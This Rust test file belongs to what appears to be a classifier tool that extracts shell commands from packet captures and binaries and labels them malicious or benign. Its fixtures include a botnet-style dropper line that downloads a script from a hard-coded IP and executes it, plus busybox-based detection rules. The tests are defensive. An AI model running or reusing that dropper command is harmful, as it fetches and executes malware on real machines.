mod common;

use common::*;
use shellgate_core::corpus::{read_jsonl, Command, Label, SourceKind};
use shellgate_core::filelevel::read_files_jsonl;
use shellgate_core::surrogate::{generate, SurrogateConfig};
use tempfile::TempDir;

fn small_corpus(dir: &TempDir) -> String {
    let corpus = generate(&SurrogateConfig {
        n_malicious: 80,
        n_benign: 80,
        ..Default::default()
    });
    let p = dir.path().join("corpus.jsonl");
    write_commands(&p, &corpus);
    path_str(&p).to_string()
}

#[test]
fn extract_pcap_writes_plaintext_payloads() {
    let dir = TempDir::new().unwrap();
    let cap = dir.path().join("capture.pcap");
    std::fs::write(&cap, three_packet_capture()).unwrap();
    let out = dir.path().join("benign.jsonl");
    let (code, _, err) = run_cli(
        &["extract", "--kind", "pcap", "--label", "benign", path_str(&cap), "-o", path_str(&out)],
        b"",
    );
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("1 commands"));
    let cmds = read_jsonl(std::fs::File::open(&out).map(std::io::BufReader::new).unwrap(), "out").unwrap();
    assert_eq!(cmds.len(), 1);
    assert_eq!(cmds[0].text, GET_PAYLOAD);
    assert_eq!(cmds[0].source_kind, SourceKind::PcapPayload);
}

#[test]
fn extract_binary_with_rules_file() {
    let dir = TempDir::new().unwrap();
    let mut bin = vec![0x7f, b'E', b'L', b'F', 2, 1, 1, 0];
    bin.extend_from_slice(b"\0\0\x01\x02cd /tmp; wget http://45.95.168.21/bins.sh\0\x05\x06");
    bin.extend_from_slice(b"GLIBC_2.2.5\0\xff\xfe/bin/busybox ECCHI\0\x01libc.so.6\0");
    let binp = dir.path().join("mal.bin");
    std::fs::write(&binp, &bin).unwrap();
    let rules = dir.path().join("rules.jsonl");
    std::fs::write(
        &rules,
        concat!(
            "# custom rules\n",
            r#"{"rule_id":"cd","kind":"prefix","anchor":"cd "}"#,
            "\n",
            r#"{"rule_id":"busybox","kind":"keyword","anchor":"busybox"}"#,
            "\n"
        ),
    )
    .unwrap();
    let (code, out, err) = run_cli(
        &["extract", "--kind", "binary", "--label", "malicious", "--rules", path_str(&rules), path_str(&binp)],
        b"",
    );
    assert_eq!(code, 0, "{err}");
    let cmds = read_jsonl(out.as_slice(), "stdout").unwrap();
    let texts: Vec<&[u8]> = cmds.iter().map(|c| c.text.as_slice()).collect();
    assert_eq!(texts, vec![&b"cd /tmp; wget http://45.95.168.21/bins.sh"[..], &b"/bin/busybox ECCHI"[..]]);
    assert!(cmds.iter().all(|c| c.label == Label::Malicious && c.source_kind == SourceKind::BinaryStrings));

    let (code, out, _) = run_cli(
        &["extract", "--kind", "binary", "--label", "malicious", "--redact", "--format", "files", path_str(&binp)],
        b"",
    );
    assert_eq!(code, 0);
    let files = read_files_jsonl(out.as_slice(), "stdout").unwrap();
    assert_eq!(files.len(), 1);
    assert!(files[0].commands().iter().any(|c| c.text_lossy().contains("0.0.0.0")));
}

#[test]
fn extract_without_matches_is_empty_success() {
    let dir = TempDir::new().unwrap();
    let p = dir.path().join("plain.bin");
    std::fs::write(&p, b"\0\0nothing interesting here\0\0").unwrap();
    let (code, out, err) = run_cli(&["extract", "--kind", "binary", "--label", "malicious", path_str(&p)], b"");
    assert_eq!(code, 0);
    assert!(out.is_empty());
    assert!(err.contains("warning: no commands extracted"));
}

#[test]
fn extract_missing_input_is_data_error() {
    let (code, _, err) = run_cli(&["extract", "--kind", "text", "--label", "benign", "/nonexistent/cmds.txt"], b"");
    assert_eq!(code, 2);
    assert!(err.contains("/nonexistent/cmds.txt"));
}

#[test]
fn usage_errors_exit_one() {
    assert_eq!(run_cli(&["extract", "--kind", "elf", "--label", "benign", "x"], b"").0, 1);
    assert_eq!(run_cli(&["frobnicate"], b"").0, 1);
    let (code, out, _) = run_cli(&["--help"], b"");
    assert_eq!(code, 0);
    assert!(String::from_utf8(out).unwrap().contains("evaluate"));
}

#[test]
fn config_errors_name_the_field() {
    let dir = TempDir::new().unwrap();
    let corpus = small_corpus(&dir);
    let model = dir.path().join("m.shlc");
    let (code, _, err) = run_cli(&["train", "--epochs", "0", "-o", path_str(&model), &corpus], b"");
    assert_eq!(code, 1);
    assert!(err.contains("`epochs`"), "{err}");
    let (code, _, err) = run_cli(&["train", "--set", "colour=blue", "-o", path_str(&model), &corpus], b"");
    assert_eq!(code, 1);
    assert!(err.contains("`colour`"), "{err}");
    let cfg = dir.path().join("bad.conf");
    std::fs::write(&cfg, "k = 1\n").unwrap();
    let (code, _, err) = run_cli(&["evaluate", "--config", path_str(&cfg), &corpus], b"");
    assert_eq!(code, 1);
    assert!(err.contains("`k`"), "{err}");
}

#[test]
fn train_then_predict_roundtrip() {
    let dir = TempDir::new().unwrap();
    let corpus = small_corpus(&dir);
    let model = dir.path().join("m.shlc");
    let conf = dir.path().join("lr.conf");
    std::fs::write(&conf, "# quick model\nmodel = lr\nepochs = 60\n").unwrap();
    let (code, _, err) = run_cli(&["train", "--config", path_str(&conf), "-o", path_str(&model), &corpus], b"");
    assert_eq!(code, 0, "{err}");

    let input = b"cd /tmp; wget http://45.95.168.21/bins.sh; chmod 777 bins.sh; ./bins.sh\n\nsudo apt install vim\n";
    let (code, out, _) = run_cli(&["predict", "-m", path_str(&model)], input);
    assert_eq!(code, 0);
    let text = String::from_utf8(out).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2);
    for (line, expected) in lines.iter().zip(["malicious", "benign"]) {
        let fields: Vec<&str> = line.split('\t').collect();
        assert_eq!(fields.len(), 3);
        let p: f64 = fields[0].parse().unwrap();
        assert!((0.0..=1.0).contains(&p));
        assert_eq!(fields[1], expected, "{line}");
        assert_eq!(fields[1] == "malicious", p >= 0.5);
    }
    let (again, out2, _) = run_cli(&["predict", "-m", path_str(&model)], input);
    assert_eq!(again, 0);
    assert_eq!(text.as_bytes(), out2);

    let (code, out, _) = run_cli(&["predict", "-m", path_str(&model)], b"");
    assert_eq!((code, out.len()), (0, 0));
}

#[test]
fn corrupt_model_file_is_rejected() {
    let dir = TempDir::new().unwrap();
    let corpus = small_corpus(&dir);
    let model = dir.path().join("m.shlc");
    let (code, _, _) = run_cli(&["train", "--model", "lr", "--epochs", "5", "-o", path_str(&model), &corpus], b"");
    assert_eq!(code, 0);
    let mut bytes = std::fs::read(&model).unwrap();
    let truncated = dir.path().join("t.shlc");
    std::fs::write(&truncated, &bytes[..bytes.len() - 3]).unwrap();
    let (code, _, err) = run_cli(&["predict", "-m", path_str(&truncated)], b"ls\n");
    assert_eq!(code, 2, "{err}");
    bytes[0] = b'Z';
    std::fs::write(&truncated, &bytes).unwrap();
    let (code, _, err) = run_cli(&["predict", "-m", path_str(&truncated)], b"ls\n");
    assert_eq!(code, 2);
    assert!(err.contains("magic"));
}

#[test]
fn malware_only_vocabulary_dump_has_no_benign_terms() {
    let dir = TempDir::new().unwrap();
    let corpus = small_corpus(&dir);
    let model = dir.path().join("m.shlc");
    let vocab = dir.path().join("vocab.txt");
    let args = [
        "train", "--mode", "term", "--policy", "malware-only", "--model", "lr", "--epochs", "5", "--dump-vocab",
        path_str(&vocab), "-o", path_str(&model), &corpus,
    ];
    let (code, _, err) = run_cli(&args, b"");
    assert_eq!(code, 0, "{err}");
    let dump = std::fs::read_to_string(&vocab).unwrap();
    let grams: Vec<&str> = dump.lines().collect();
    assert!(grams.contains(&"wget"));
    for benign_only in ["favicon", "sudo", "apt", "git", "ssh"] {
        assert!(!grams.contains(&benign_only), "{benign_only}");
    }
    let (code, out, _) = run_cli(&["predict", "-m", path_str(&model)], b"favicon\n");
    assert_eq!(code, 0);
    let (_, out2, _) = run_cli(&["predict", "-m", path_str(&model)], b"favicon\n");
    assert_eq!(out, out2);
}

#[test]
fn file_level_on_single_command_files_matches_command_level() {
    let dir = TempDir::new().unwrap();
    let corpus = generate(&SurrogateConfig {
        n_malicious: 60,
        n_benign: 60,
        ..Default::default()
    });
    let per_file: Vec<Command> = corpus
        .iter()
        .enumerate()
        .map(|(i, c)| Command { source_id: format!("file-{i}"), ..c.clone() })
        .collect();
    let cmds = dir.path().join("cmds.jsonl");
    write_commands(&cmds, &per_file);
    let files = dir.path().join("files.jsonl");
    let mut buf = Vec::new();
    let grouped = shellgate_core::filelevel::group_by_source(&per_file).unwrap();
    shellgate_core::filelevel::write_files_jsonl(&mut buf, &grouped).unwrap();
    std::fs::write(&files, buf).unwrap();

    let common = ["--model", "rf", "--n-trees", "10", "-k", "4", "--seed", "3"];
    let mut a = vec!["evaluate", "--level", "command"];
    a.extend_from_slice(&common);
    a.push(path_str(&cmds));
    let mut b = vec!["evaluate", "--level", "file"];
    b.extend_from_slice(&common);
    b.push(path_str(&files));
    let (ca, ja, _) = run_cli(&a, b"");
    let (cb, jb, _) = run_cli(&b, b"");
    assert_eq!((ca, cb), (0, 0));
    let ja = String::from_utf8(ja).unwrap();
    let jb = String::from_utf8(jb).unwrap();
    assert!(ja.contains(r#""level": "command""#));
    assert_eq!(ja.replace(r#""level": "command""#, r#""level": "file""#), jb);
}

#[test]
fn synth_benign_reports_ks() {
    let dir = TempDir::new().unwrap();
    let mal: Vec<Command> = (0..30)
        .flat_map(|f| (0..1 + f % 4).map(move |j| Command::new(format!("wget h/{f}/{j}"), Label::Malicious, format!("m{f}"), SourceKind::BinaryStrings)))
        .collect();
    let grouped = shellgate_core::filelevel::group_by_source(&mal).unwrap();
    let mut buf = Vec::new();
    shellgate_core::filelevel::write_files_jsonl(&mut buf, &grouped).unwrap();
    let malp = dir.path().join("mal_files.jsonl");
    std::fs::write(&malp, buf).unwrap();
    let pool = small_corpus(&dir);
    let (code, out, err) = run_cli(
        &["synth-benign", "--malware", path_str(&malp), "--pool", &pool, "--n-files", "200", "--seed", "1"],
        b"",
    );
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("KS statistic"));
    let files = read_files_jsonl(out.as_slice(), "stdout").unwrap();
    assert_eq!(files.len(), 200);
    assert!(files.iter().all(|f| f.label() == Label::Benign && (1..=4).contains(&f.commands().len())));
}

#[test]
fn thread_cap_must_be_positive() {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_shellgate"))
        .args(["predict", "-m", "/nonexistent"])
        .env("SHELLGATE_THREADS", "zero")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("SHELLGATE_THREADS"));
}
